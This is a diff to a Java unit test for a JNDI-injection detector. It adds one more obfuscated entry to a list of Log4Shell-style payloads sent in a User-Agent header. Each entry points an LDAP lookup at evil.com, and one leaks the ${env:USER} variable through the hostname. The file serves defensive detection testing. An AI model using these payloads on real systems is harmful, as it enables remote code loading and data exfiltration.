@@ -44,7 +44,8 @@ class JndiDetectorTest {
                 "$&lbrace;jndi:ldap://evil.com/a}",
                 "&#36;{jndi:ldap://evil.com/a}",
                 "%24&lcub;\\u006A&#110;di:ldap://evil.com/webshell}",
-                "${jndi:ldap://${env:USER}.evil.com/a}"
+                "${jndi:ldap://${env:USER}.evil.com/a}",
+                "&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.com/w}"
             })
     void flags_jndi_lookups_at_level_1(String v) {
         List<Finding> findings = run(detector, header("User-Agent", v));
